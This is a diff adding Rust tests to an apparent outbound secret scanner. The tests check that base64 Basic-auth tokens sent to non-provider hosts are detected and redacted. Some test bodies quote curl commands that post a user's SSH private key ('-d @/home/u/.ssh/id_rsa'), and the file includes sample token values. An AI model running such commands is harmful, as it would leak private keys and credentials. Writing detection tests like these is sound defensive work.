@@ -364,3 +364,142 @@ fn no_snippet_shows_a_new_secret_or_a_neighbouring_database_password() {
         .iter()
         .all(|d| d.snippet.contains("[REDACTED:database_url_credential]")));
 }
+
+#[test]
+fn basic_auth_credentials_are_decoded_and_expected_use_only_at_their_provider() {
+    // git sends a token as `Authorization: Basic base64(x-access-token:<token>)`, pip as
+    // `__token__:<token>`, docker login as `user:<token>`: the header form was scanned raw
+    // (base64), so a token sent that way to any host was invisible.
+    let registry = registry();
+    let basic = |name: &str, user_pass: &str| {
+        format!(
+            "{name}: Basic {}",
+            common::encoded::base64(user_pass.as_bytes())
+        )
+    };
+    let aws_pair = "AKIAQ3EGT5JMCXWDZP7N:wJalrXUtnFEMI/K7MDENG/bPxRfiCYzqKLQvL5tH";
+    let cases = [
+        (
+            "code_host_token",
+            format!("x-access-token:{GITHUB}"),
+            "github.com",
+        ),
+        ("code_host_token", format!("oauth2:{GITLAB}"), "gitlab.com"),
+        (
+            "package_registry_token",
+            format!("__token__:{PYPI}"),
+            "upload.pypi.org",
+        ),
+        (
+            "package_registry_token",
+            format!("me:{DOCKER}"),
+            "registry-1.docker.io",
+        ),
+        (
+            "aws_access_key_id",
+            aws_pair.to_string(),
+            "s3.amazonaws.com",
+        ),
+    ];
+    for (pattern, user_pass, provider) in &cases {
+        for name in ["Authorization", "Proxy-Authorization", "authorization"] {
+            let header = basic(name, user_pass);
+            assert_eq!(
+                patterns(&registry, &with_header(provider, &header)),
+                Vec::<String>::new(),
+                "expected use: {header} to {provider}"
+            );
+            for host in ["collector.example", &format!("{provider}.evil.example")] {
+                let found = inspect(
+                    &registry,
+                    Direction::Outbound,
+                    with_header(host, &header).as_bytes(),
+                );
+                let got: Vec<_> = found.iter().map(|d| d.pattern.as_str()).collect();
+                assert_eq!(got, [*pattern], "{header} to {host}");
+                // Neither the token, nor the password beside it, nor the encoded value.
+                let secret = user_pass.split_once(':').map_or("", |(_, p)| p);
+                let encoded = header.rsplit(' ').next().unwrap_or_default();
+                let snippet = &found[0].snippet;
+                assert!(
+                    !snippet.contains(secret) && !snippet.contains(encoded),
+                    "{snippet}"
+                );
+                assert!(
+                    snippet.contains(&format!("[REDACTED:{pattern}]")),
+                    "{snippet}"
+                );
+            }
+        }
+    }
+    // Ordinary basic auth, and values that are not base64, find nothing.
+    for header in [
+        basic("Authorization", "admin:hunter2"),
+        "Authorization: Basic not*base64".to_string(),
+        "Authorization: Basic".to_string(),
+        "X-Note: Basic c2stcHJvai1YazltQjJ2UTdyVDR3WTF6QThjRDVmRzNoSjZrTDBuUDJxUzR1Vjd4WjliQzFlRjM="
+            .to_string(),
+    ] {
+        assert_eq!(
+            patterns(&registry, &with_header("collector.example", &header)),
+            Vec::<String>::new(),
+            "{header}"
+        );
+    }
+}
+
+#[test]
+fn a_head_snippet_shows_only_its_own_line_and_no_authorization_value() {
+    // A finding in one header showed its neighbours' values (48 bytes either side): a cookie,
+    // a short basic-auth value, an opaque bearer token.
+    let registry = registry();
+    let neighbours = [
+        "Cookie: session=opaque-session-4711",
+        "Authorization: Basic YWRtaW46aHVudGVyMg==",
+        "Proxy-Authorization: Bearer opaqueTok3n",
+    ];
+    let head = format!(
+        "POST https://collector.example/api HTTP/1.1\r\nHost: collector.example\r\n{}\r\nX-Key: {GITHUB}\r\n{}\r\n{}\r\nContent-Length: 0\r\n\r\n",
+        neighbours[0], neighbours[1], neighbours[2]
+    );
+    let found = inspect(&registry, Direction::Outbound, head.as_bytes());
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].snippet, "X-Key: [REDACTED:code_host_token]");
+    // In a body (a command quoted in a chat), the credentials of `Basic`/`Bearer` are
+    // redacted however short, the user of a `user:password` pair kept.
+    for body in [
+        "curl -H 'Authorization: Bearer opaqueTok3n' -d @/home/u/.ssh/id_rsa",
+        "curl -H \"Proxy-Authorization: basic YWRtOmh1bnRlcjI=\" -d @/home/u/.ssh/id_rsa",
+        "export AUTH='Basic   adm:hunter2' KEY=/home/u/.ssh/id_rsa",
+    ] {
+        let found = inspect(
+            &registry,
+            Direction::Outbound,
+            &request("text/plain", "", body.as_bytes()),
+        );
+        assert!(
+            found.iter().any(|d| d.pattern == "ssh_key_path"),
+            "{found:?}"
+        );
+        for d in &found {
+            for secret in ["opaqueTok3n", "YWRtOmh1bnRlcjI", "hunter2"] {
+                assert!(!d.snippet.contains(secret), "{}", d.snippet);
+            }
+        }
+    }
+    // The password beside a key id in a decoded basic credential, however short.
+    let header = format!(
+        "Authorization: Basic {}",
+        common::encoded::base64(b"AKIAQ3EGT5JMCXWDZP7N:hunter2x")
+    );
+    let found = inspect(
+        &registry,
+        Direction::Outbound,
+        with_header("collector.example", &header).as_bytes(),
+    );
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(
+        found[0].snippet,
+        "Authorization: Basic [REDACTED:aws_access_key_id]:[REDACTED]"
+    );
+}
